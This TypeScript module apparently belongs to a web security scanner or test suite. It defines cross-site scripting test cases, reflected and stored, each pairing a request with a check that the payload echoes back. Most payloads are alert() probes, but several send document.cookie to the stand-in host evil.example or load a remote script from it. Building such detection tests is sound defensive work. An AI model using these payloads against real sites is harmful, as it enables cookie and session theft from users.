import { type Attack, q, reflects } from '../attack.js';

const get = (page: string, payload: string, name: string): Attack => ({
  name,
  request: { path: `${page}=${q(payload)}` },
  effect: reflects(payload),
});

const stored = (payload: string, name: string, json: boolean): Attack => ({
  name,
  request: json
    ? { path: '/products/3/reviews', json: { author: 'Mallory', text: payload } }
    : { path: '/products/3/reviews', form: { author: 'Mallory', text: payload } },
  effect: reflects(payload, '/products/3/reviews'),
});

/** Puts script into a page that other people see. */
export const crossSiteScripting: readonly Attack[] = [
  get('/hello?name', '<script>alert(document.cookie)</script>', 'script element'),
  get('/hello?name', '<img src=x onerror=alert(1)>', 'event handler of an image'),
  get('/hello?name', '<svg/onload=alert(document.domain)>', 'SVG onload without blank'),
  get('/hello?name', '<ScRiPt src="//evil.example/x.js"></sCrIpT>', 'remote script in mixed case'),
  get('/search?q', '<iframe src="javascript:alert(1)"></iframe>', 'iframe with a script address'),
  get('/search?q', '<body onpageshow=alert(1)>', 'body event'),
  get('/newsletter?email', '"><script>fetch("//evil.example/"+document.cookie)</script>', 'out of an attribute'),
  get('/newsletter?email', '" autofocus onfocus="alert(1)', 'new attribute inside a tag'),
  get('/tracking?campaign', "';alert(document.cookie);//", 'out of a script string'),
  get('/link?to', 'javascript:alert(document.cookie)', 'script address in a link'),
  stored('<script>document.location="//evil.example/?c="+document.cookie</script>', 'stored in a review (form)', false),
  stored('<img src=1 onerror="fetch(\'//evil.example/\'+document.cookie)">', 'stored in a review (JSON)', true),
  {
    name: 'previewed markup',
    request: { path: '/preview', form: { markup: '<details open ontoggle=alert(1)>' } },
    effect: reflects('<details open ontoggle=alert(1)>'),
  },
  {
    name: 'Referer header',
    request: { path: '/missing', headers: { referer: 'http://x.example/<script>alert(1)</script>' } },
    effect: reflects('<script>alert(1)</script>'),
  },
];
